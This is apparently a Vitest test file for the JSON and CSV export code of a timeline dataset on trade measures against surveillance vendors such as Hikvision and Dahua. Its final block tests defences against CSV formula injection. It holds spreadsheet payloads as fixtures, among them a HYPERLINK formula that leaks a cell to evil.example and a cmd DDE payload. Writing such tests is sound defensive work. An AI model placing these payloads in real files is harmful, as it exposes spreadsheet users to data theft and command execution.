import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { formatCsv } from '../../src/lib/outputs/csv.ts';
import {
  buildEntriesExport,
  buildMeasuresExport,
  measuresCsvRows,
  MEASURE_CSV_COLUMNS,
  buildSourcesExport,
  buildVendorsExport,
  CSV_COLUMNS,
  DATA_LICENSE,
  datasetInput,
  entriesCsvRows,
  exportEntry,
  exportSource,
} from '../../src/lib/outputs/export.ts';
import { jsonSchemaFor } from '../../src/lib/outputs/json-schema.ts';
import { entries, measures, paths, site, sources } from './dataset-fixture.ts';

const input = datasetInput(site, paths);
const generated = new Date('2026-11-29T12:00:00Z');

function validator(name: 'entries' | 'entry' | 'vendors' | 'sources' | 'measures') {
  const ajv = new Ajv2020({ strict: true, allErrors: true });
  addFormats.default(ajv);
  return ajv.compile(jsonSchemaFor(name, `https://example.org/tl/data/${name}.schema.json`));
}

describe('buildEntriesExport', () => {
  const data = buildEntriesExport(input, generated);

  test('declares when it was generated and under which licence', () => {
    expect(data.generated).toBe('2026-11-29T12:00:00.000Z');
    expect(data.license).toEqual(DATA_LICENSE);
    expect(data.license.id).toBe('CC-BY-4.0');
  });

  test('keeps the entries in the order given, each with its absolute permanent URL', () => {
    expect(data.entries.map((e) => [e.id, e.url])).toEqual([
      ['2019-10-07-us-entity-list', 'https://example.org/tl/entries/2019-10-07-us-entity-list/'],
      ['2021-03-reported-restriction', 'https://example.org/tl/entries/2021-03-reported-restriction/'],
    ]);
  });

  test('resolves sources in the order cited, every field present and null when unknown', () => {
    const [first] = data.entries;
    expect(first?.sources.map((s) => s.id)).toEqual(['rule', 'report']);
    expect(first?.sources[1]).toEqual({
      id: 'report',
      title: 'A report',
      publisher: 'A newspaper',
      via: null,
      stateMedia: false,
      author: null,
      published: '2019-10',
      url: null,
      archiveUrl: 'https://web.archive.org/web/2019/https://news.example/a',
      archived: '2020-01-02',
      noUrl: null,
      urlStatus: null,
      accessed: null,
      kind: 'secondary',
      note: null,
    });
  });

  test('gives updated as the publication day when an entry never changed', () => {
    expect(data.entries.map((e) => e.updated)).toEqual(['2026-11-20', '2026-11-01']);
  });

  test('carries dates, corrections and relations as written', () => {
    const [first, second] = data.entries;
    expect(first?.dates).toEqual([{ kind: 'effective', date: '2019-10-09', note: 'Publication in the Federal Register' }]);
    expect(first?.corrections).toHaveLength(2);
    expect(second?.related).toEqual(['2019-10-07-us-entity-list']);
    expect(second?.relations).toEqual([{ entry: '2019-10-07-us-entity-list', type: 'responds-to', direction: 'outgoing', label: 'Responds to' }]);
  });

  test('shows a relation on the entry it points at too, with the inverse label', () => {
    const [first] = data.entries;
    expect(first?.related).toEqual(['2021-03-reported-restriction']);
    expect(first?.relations).toEqual([{ entry: '2021-03-reported-restriction', type: 'responds-to', direction: 'incoming', label: 'Responses' }]);
  });

  test('lists the measure stages an entry records', () => {
    const [first, second] = data.entries;
    expect(first?.measures).toEqual([
      { measure: 'entity-list', stage: 'announced', date: '2019-10-07' },
      { measure: 'entity-list', stage: 'in-force', date: '2019-10-09' },
    ]);
    expect(second?.measures).toEqual([]);
    expect(second?.endDate).toBeNull();
  });

  test('is valid against the published JSON Schema', () => {
    const validate = validator('entries');
    expect(validate(JSON.parse(JSON.stringify(data))), JSON.stringify(validate.errors)).toBe(true);
  });

  test('fails the published JSON Schema when a required field is missing', () => {
    const validate = validator('entries');
    const broken = JSON.parse(JSON.stringify(data));
    delete broken.entries[0].sources;
    expect(validate(broken)).toBe(false);
  });

  test('says up to when events were reviewed, and null when the record does not say', () => {
    expect(data.coverageThrough).toBeNull();
    const covered = buildEntriesExport(datasetInput({ ...site, coverageThrough: '2026-11-30' }, paths), generated);
    expect(covered.coverageThrough).toBe('2026-11-30');
    const validate = validator('entries');
    expect(validate(JSON.parse(JSON.stringify(covered))), JSON.stringify(validate.errors)).toBe(true);
    expect(validate({ ...JSON.parse(JSON.stringify(covered)), coverageThrough: '30 November 2026' })).toBe(false);
  });
});

describe('exportEntry', () => {
  test('matches the single-entry JSON Schema', () => {
    const validate = validator('entry');
    const entry = entries[0];
    expect(entry).toBeDefined();
    expect(validate(exportEntry(entry!, sources, 'https://example.org/tl/entries/x/'))).toBe(true);
  });

  test('refuses an entry citing a source that does not exist', () => {
    const entry = entries[1]!;
    expect(() => exportEntry(entry, new Map(), 'https://example.org/')).toThrow(/unknown source report/);
  });
});

describe('exportSource', () => {
  test('returns null for every field a source does not record', () => {
    const source = sources.get('rule')!;
    expect(exportSource('rule', { ...source, archiveUrl: undefined, archived: undefined })).toMatchObject({ archiveUrl: null, archived: null, author: null, note: null });
  });

  test('keeps where a syndicated source was read apart from its publisher, and says when it is state media', () => {
    const source = sources.get('rule')!;
    expect(exportSource('rule', source)).toMatchObject({ via: null, stateMedia: false });
    expect(exportSource('rule', { ...source, publisher: 'Reuters', via: 'MarketScreener', stateMedia: true })).toMatchObject({ publisher: 'Reuters', via: 'MarketScreener', stateMedia: true });
  });
});

describe('buildVendorsExport', () => {
  const data = buildVendorsExport(input, generated);

  test('lists every vendor with its Chinese names and its entries, oldest first', () => {
    expect(data.vendors.map((v) => [v.id, v.nameZh, v.entries])).toEqual([
      ['dahua', '大华', ['2019-10-07-us-entity-list']],
      ['hikvision', '海康威视', ['2019-10-07-us-entity-list', '2021-03-reported-restriction']],
    ]);
    expect(data.vendors[0]?.url).toBe('https://example.org/tl/vendors/dahua/');
  });

  test('is valid against the published JSON Schema', () => {
    expect(validator('vendors')(JSON.parse(JSON.stringify(data)))).toBe(true);
  });
});

describe('buildSourcesExport', () => {
  const data = buildSourcesExport(input, generated);

  test('lists every source with the entries that cite it', () => {
    expect(data.sources.map((s) => [s.id, s.citedBy])).toEqual([
      ['report', ['2019-10-07-us-entity-list', '2021-03-reported-restriction']],
      ['rule', ['2019-10-07-us-entity-list']],
    ]);
  });

  test('is valid against the published JSON Schema', () => {
    expect(validator('sources')(JSON.parse(JSON.stringify(data)))).toBe(true);
  });
});

describe('entriesCsvRows', () => {
  const rows = entriesCsvRows(input);
  const parsed = parse(formatCsv(rows, { bom: true }), { bom: true, columns: true }) as Record<string, string>[];

  test('has a header row of the documented columns and one row per entry', () => {
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(parsed.map((r) => r['id'])).toEqual(entries.map((e) => e.id));
  });

  test.each([
    ['vendors', 'hikvision; dahua'],
    ['vendorNames', 'Hikvision (海康威视); Dahua (大华)'],
    ['jurisdictionNames', 'United States'],
    ['sources', 'rule; report'],
    ['sourceUrls', 'https://www.federalregister.gov/d/2019-22210; https://web.archive.org/web/2019/https://news.example/a'],
    ['dates', 'effective 2019-10-09'],
    ['corrections', '2026-11-10: Corrected the number of organisations.; 2026-11-20: Added the effective date.'],
    ['endDate', ''],
    ['updated', '2026-11-20'],
  ])('joins the list column %s with "; " and survives a real CSV parser', (column, value) => {
    expect(parsed[0]?.[column]).toBe(value);
  });

  test('keeps commas, quotes and Chinese names intact through a real CSV parser', () => {
    expect(parsed[1]?.['title']).toBe('A "reported" restriction, with a comma');
    expect(parsed[1]?.['summary']).toBe('A summary with a comma, a "quote" and a line break, naming 海康威视.');
  });
});

describe('buildMeasuresExport', () => {
  const data = buildMeasuresExport(input, generated);

  test('gives each measure its page URL, labels and stages with their entries’ permanent URLs', () => {
    const [m] = data.measures;
    expect(m?.url).toBe('https://example.org/tl/measures/entity-list/');
    expect(m?.kindLabel).toBe('Trade restriction');
    expect(m?.statusLabel).toBe('In force');
    expect(m?.criterion).toBeNull();
    expect(m?.stages.map((s) => [s.date, s.stage, s.entryUrl, s.note])).toEqual([
      ['2019-10-07', 'announced', 'https://example.org/tl/entries/2019-10-07-us-entity-list/', null],
      ['2019-10-09', 'in-force', 'https://example.org/tl/entries/2019-10-07-us-entity-list/', 'Published in the Federal Register'],
    ]);
  });

  test('is valid against the published JSON Schema, and fails it when a field is missing', () => {
    const validate = validator('measures');
    const json = JSON.parse(JSON.stringify(data)) as { measures: Record<string, unknown>[] };
    expect(validate(json), JSON.stringify(validate.errors)).toBe(true);
    delete json.measures[0]!['statusAsOf'];
    expect(validate(json)).toBe(false);
  });
});

describe('measuresCsvRows', () => {
  test('has a header row and one row per measure that a CSV parser reads back', () => {
    const rows = measuresCsvRows(input);
    expect(rows[0]).toEqual(MEASURE_CSV_COLUMNS.map((c) => c.name));
    const parsed = parse(formatCsv(rows), { columns: true }) as Record<string, string>[];
    expect(parsed).toHaveLength(1);
    expect(parsed[0]?.['name']).toBe('Entity List listing, with a "quote", a comma');
    expect(parsed[0]?.['stages']).toBe('2019-10-07 announced 2019-10-07-us-entity-list; 2019-10-09 in-force 2019-10-07-us-entity-list');
  });
});

describe('formula cells in the CSV downloads', () => {
  // The probe's payloads (a title, a summary and a measure's short name a spreadsheet would run).
  const [first, second] = entries;
  const [measure] = measures;
  const hostile = datasetInput(
    {
      ...site,
      entries: [{ ...first!, data: { ...first!.data, title: '=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")', summary: "+cmd|' /C calc'!A0" } }, second!],
      measures: [{ ...measure!, data: { ...measure!.data, shortName: '=1+1', name: '@SUM(1+1)' } }],
    },
    paths,
  );
  const read = (text: string) => parse(text, { bom: true, columns: true }) as Record<string, string>[];

  test('reach a spreadsheet as text: entries.csv and measures.csv read back with a leading quote', () => {
    const [row] = read(formatCsv(entriesCsvRows(hostile), { bom: true }));
    expect(row?.['title']).toBe('\'=HYPERLINK("https://evil.example/?leak="&A1,"Click for source")');
    expect(row?.['summary']).toBe("'+cmd|' /C calc'!A0");
    const [m] = read(formatCsv(measuresCsvRows(hostile), { bom: true }));
    expect(m?.['shortName']).toBe("'=1+1");
    expect(m?.['name']).toBe("'@SUM(1+1)");
  });

  test('are the only cells changed: every other cell reads back as it was, and none is a negative number', () => {
    for (const rows of [entriesCsvRows(input), measuresCsvRows(input)]) {
      const text = formatCsv(rows);
      expect(parse(text, { record_delimiter: '\r\n' })).toEqual(rows);
      expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r＝＋－＠]/.test(cell))).toEqual([]);
    }
  });
});
